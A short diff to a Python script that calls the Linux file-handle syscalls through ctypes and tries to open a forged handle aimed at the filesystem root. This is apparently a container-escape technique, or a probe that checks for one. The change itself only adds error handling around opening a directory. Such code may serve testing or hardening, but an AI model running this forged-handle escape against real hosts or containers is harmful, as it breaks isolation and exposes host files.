@@ -12,7 +12,10 @@ for place in (".", "/", "/usr", "/etc", "/dev", "/proc/self"):
     mount_id = ctypes.c_int()
     system_call(303, -100, place.encode(), handle, ctypes.byref(mount_id), 0)
     forged = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
-    directory = os.open(place, os.O_RDONLY)
+    try:
+        directory = os.open(place, os.O_RDONLY)
+    except OSError:
+        directory = -100
     for which in (handle, forged):
         result, code = system_call(304, directory, which, os.O_RDONLY)
         if result >= 0:
